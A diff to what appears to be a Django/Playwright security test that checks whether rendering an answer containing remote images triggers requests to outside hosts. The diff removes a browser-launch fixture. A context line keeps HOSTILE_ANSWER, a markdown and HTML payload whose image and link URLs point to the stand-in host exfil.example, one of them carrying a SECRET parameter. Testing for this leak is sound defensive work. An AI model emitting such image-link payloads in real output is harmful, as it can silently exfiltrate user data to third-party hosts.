@@ -3,12 +3,9 @@ whose answer holds a remote image sends no request to that image's host."""
 
 from __future__ import annotations
 
-import shutil
-from collections.abc import Iterator
-
 import pytest
 from django.contrib.auth.models import User
-from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_playwright
+from playwright.sync_api import Browser, ConsoleMessage, Page, Request
 
 from audit_app.models import Job, Team
 from audit_app.services.submission import submit_job
@@ -16,9 +13,6 @@ from tests.service.conftest import make_user
 from tests.service.test_web import finished_job
 
 pytestmark = pytest.mark.django_db(transaction=True)
-CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
-ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-        "--disable-background-networking", "--disable-component-update", "--disable-sync"]  # fmt: skip
 HOSTILE_ANSWER = """Yes. ![chart](http://exfil.example/c.png?d=SECRET)
 
 ![ref][r] <http://exfil.example/auto> [statute](http://exfil.example/law) <img src="http://exfil.example/raw.png">
@@ -46,16 +40,6 @@ def request_url(request: Request) -> str:
 
 def console_text(message: ConsoleMessage) -> str:
     return f"{message.type}: {message.text}"
-
-
-@pytest.fixture
-def browser(monkeypatch: pytest.MonkeyPatch) -> Iterator[Browser]:
-    # Playwright's sync API keeps an event loop on this thread; the test's own ORM calls stay synchronous.
-    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
-    with sync_playwright() as playwright:
-        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
-        yield launched
-        launched.close()
 
 
 def logged_in(browser: Browser, base_url: str, username: str) -> Watched:
